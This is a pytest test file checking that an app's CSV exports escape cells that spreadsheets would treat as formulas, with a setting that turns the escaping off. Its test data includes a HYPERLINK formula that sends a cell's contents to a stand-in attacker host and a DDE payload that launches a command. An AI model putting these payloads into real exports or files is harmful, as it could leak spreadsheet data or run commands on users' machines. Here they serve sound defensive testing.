"""CSV exports never hand a spreadsheet a formula: a text cell starting with =, +, -, @, tab
or carriage return gets a leading ' (OWASP's rule), unless the operator turns it off.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest
from fastapi.testclient import TestClient

from app.config import Settings
from app.formats import _cell
from app.main import create_app
from app.migrate import migrate
from robust_db import AUTH, KEY

CELLS = [
    ('=HYPERLINK("http://x.test","go")', '\'=HYPERLINK("http://x.test","go")'),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"),
    ("\r=1", "'\r=1"), (["=a", "b"], "'=a; b"), ("a=1", "a=1"), ("x - y", "x - y"), ("", ""),
    (" =1", " =1"), (-1, "-1"), (-0.5, "-0.5"), (None, ""), (True, "true"),
    (datetime(2023, 2, 22, tzinfo=timezone.utc), "2023-02-22T00:00:00Z"), ([[1, 5], [7, 9]], "1-5; 7-9"),
]


@pytest.mark.parametrize(("value", "expected"), CELLS)
def test_cells_that_would_be_formulas_are_neutralised(value: object, expected: str) -> None:
    assert _cell(value) == expected


def test_neutralising_can_be_turned_off() -> None:
    assert _cell("=1+1", neutralise_formulas=False) == "=1+1"


TITLE = '=HYPERLINK("http://attacker.test/?"&A1,"Click")'
TEXT = '"=cmd|\' /C calc\'!A0 is the plan," the mayor Anna Berg said. "@once we start," Berg added.'


def _rows(response_text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response_text)))


def test_exports_neutralise_titles_and_quotes(writable: TestClient) -> None:
    posted = writable.post("/documents", headers=AUTH, json={"text": TEXT, "title": TITLE})
    assert posted.status_code == 201, posted.text
    documents = _rows(writable.get("/documents?format=csv").text)
    assert [d["title"] for d in documents] == ["'" + TITLE]
    statements = _rows(writable.get("/statements?format=csv").text)
    assert statements, "the quotes were extracted"
    for row in statements:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert any(row["text"].startswith("'=") for row in statements), statements
    for row in _rows(writable.get("/search?q=plan&format=csv").text):
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values()), row
    # JSON and NDJSON are data formats, not spreadsheets: the text stays exact
    assert writable.get("/documents").json()["items"][0]["title"] == TITLE


def test_the_operator_can_turn_it_off(database_url: str) -> None:
    migrate(database_url)
    app = create_app(Settings(database_url=database_url, api_keys=[KEY], access_log=False,
                              csv_neutralise_formulas=False))
    with TestClient(app) as client:
        assert client.post("/documents", headers=AUTH, json={"text": TEXT, "title": TITLE}).status_code == 201
        assert [d["title"] for d in _rows(client.get("/documents?format=csv").text)] == [TITLE]
